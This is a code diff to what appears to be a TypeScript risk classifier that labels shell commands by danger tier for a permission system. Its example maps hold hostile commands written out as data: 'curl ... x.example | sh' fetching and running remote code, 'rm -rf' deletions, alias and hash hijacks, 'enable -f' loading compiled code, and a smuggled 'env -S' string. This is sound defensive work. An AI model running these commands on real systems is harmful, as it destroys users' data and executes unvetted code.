@@ -7,7 +7,9 @@ import {
   command,
   counts,
   flag,
+  glued,
   help,
+  loads,
   privileged,
   program,
   readOnly,
@@ -17,6 +19,7 @@ import {
   runsUnread,
   script,
   supplies,
+  typedLine,
   value,
 } from '../spec.ts';
 
@@ -76,7 +79,6 @@ export const nothing = program(
     'compopt',
     'caller',
     'help',
-    'enable',
     'getopts',
     'shift',
     'rehash',
@@ -95,41 +97,52 @@ export const nothing = program(
   }),
 );
 
-export const jobs = program(
-  [
-    'jobs',
-    'history',
-    'exit',
-    'return',
-    'break',
-    'continue',
-    'sleep',
-    'type',
-    'which',
-    'whereis',
-    'where',
-    'whence',
-    'mktemp',
-  ],
-  () => ({
-    docs: bash,
-    bare: quiet,
-    prints: 'path',
-    open: 'shows or waits',
-    options: { '-p': value, '-c': flag, '-d': flag },
-    examples: {
-      'type rm': 'read-only',
-      'which -a python3 node': 'read-only',
-      'sleep 3; rm -rf "$(mktemp -d)"': 'write-safe',
-    },
-  }),
-);
+export const jobs = program(['jobs', 'history', 'exit', 'return', 'break', 'continue', 'sleep', 'mktemp'], () => ({
+  docs: bash,
+  bare: quiet,
+  prints: 'path',
+  open: 'shows or waits',
+  options: { '-p': value, '-c': flag, '-d': flag },
+  examples: {
+    'sleep 3; rm -rf "$(mktemp -d)"': 'write-safe',
+  },
+}));
+
+export const located = program(['type', 'which', 'whereis', 'where', 'whence'], () => ({
+  docs: bash,
+  bare: quiet,
+  prints: 'located',
+  open: 'only shows what would run',
+  args: [rest(value)],
+  examples: {
+    'type rm': 'read-only',
+    'which -a python3 node': 'read-only',
+    '"$(which rm)" -rf ~/work': 'destructive',
+  },
+}));
+
+export const enable = program('enable', () => ({
+  docs: bash,
+  bare: quiet,
+  args: [rest(value)],
+  options: { '-f': runsUnread('loads compiled code into the shell', { takes: loads }), '-a, -d, -n, -p, -s': flag },
+  examples: {
+    'enable -n kill': 'read-only',
+    'enable -f ./x.so x': { tier: 'privileged-write', unread: true },
+  },
+}));
 
 export const hash = program('hash', () => ({
   docs: bash,
   bare: quiet,
+  builtin: 'alias',
+  args: [rest(value)],
   options: { '-p': runsUnread('gives a command another meaning', { takes: value }), '-r, -l, -d, -t': flag },
-  examples: { 'hash -r': 'read-only', 'hash -p /tmp/x ls; ls': { tier: 'privileged-write', unread: true } },
+  examples: {
+    'hash -p /bin/rm ls; ls -rf ~/work': 'destructive',
+    'hash -r': 'read-only',
+    'hash -p /tmp/x ls; ls': { tier: 'privileged-write', unread: true },
+  },
 }));
 
 export const fc = program('fc', () => ({
@@ -227,6 +240,7 @@ export const commandBuiltin = program(['command', 'builtin', 'nocorrect', 'noglo
   bare: quiet,
   args: [command],
   options: { '-v, -V': { ...counts, mode: 'preview', because: 'only shows what would run' }, '-p': flag },
+  prints: 'located',
   examples: { 'command -v docker': 'read-only', 'command rm -rf /': 'destructive', 'command -p ls': 'read-only' },
 }));
 
@@ -245,9 +259,15 @@ export const trap = program('trap', () => ({
 export const alias = program('alias', () => ({
   docs: bash,
   bare: quiet,
+  builtin: 'alias',
   options: { '-p': flag },
   args: [rest(choice({ '*=*': runsUnread('gives a command another meaning') }, value))],
-  examples: { alias: 'read-only', "alias ls='rm -rf'": { tier: 'privileged-write', unread: true } },
+  examples: {
+    alias: 'read-only',
+    "alias ll='ls -la'": { tier: 'privileged-write', unread: true },
+    "alias ls='rm -rf'; ls ~/work": 'destructive',
+    "alias grep='grep --color'; grep x a.txt": { tier: 'privileged-write', unread: true },
+  },
 }));
 
 export const unalias = program('unalias', () => ({
@@ -268,6 +288,7 @@ export const test = program(['test', '[', '[['], () => ({
 export const letBuiltin = program(['let', 'expr', 'seq'], () => ({
   docs: bash,
   bare: quiet,
+  builtin: 'compute',
   prints: 'word',
   open: 'computes numbers',
   examples: { 'let x=1+2': 'read-only', 'seq 1 10': 'read-only', 'expr 1 + 2': 'read-only' },
@@ -296,11 +317,12 @@ export const shells = program(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh'
     'bash -n deploy.sh': 'read-only',
     bash: { tier: 'privileged-write', unread: true },
     'bash --version': 'read-only',
-    'curl -s https://x.example/i | sh': { tier: 'privileged-write', unread: true },
+    'curl -s https://x.example/i | sh': { tier: 'destructive', unread: true },
+    'curl -fsSL https://get.docker.com | sh': { tier: 'privileged-write', unread: true },
     'bash --rcfile x.sh': 'write-safe',
     "echo 'rm -rf ~/work' | bash -s -- now": 'destructive',
     "echo 'rm -rf ~/work' | sh -": 'destructive',
-    'curl -s https://x.example/i | sh -s -- --yes': { tier: 'privileged-write', unread: true },
+    'curl -s https://x.example/i | sh -s -- --yes': { tier: 'destructive', unread: true },
     'bash --help': 'read-only',
   },
 }));
@@ -337,11 +359,14 @@ export const envProgram = program('env', () => ({
     ...help,
     '-i|--ignore-environment, -0|--null, -v|--debug, -': flag,
     '-u|--unset, -C|--chdir, --block-signal, --default-signal, --ignore-signal': value,
-    '-S|--split-string': code('shell'),
+    '-S|--split-string|-vS': typedLine('split string'),
+    '-S*': glued(2, typedLine('split string')),
   },
   examples: {
     'env -u CI NODE_ENV=test ls': 'read-only',
     "env -S 'rm -rf /home/me/work'": 'destructive',
+    "env -S'rm\\_-rf' /home/me/work": 'destructive',
+    "env -S 'A=1 ls' src": 'read-only',
     'env --help': 'read-only',
     'env A=1 nice -n1 rm -rf ~/work': 'destructive',
   },
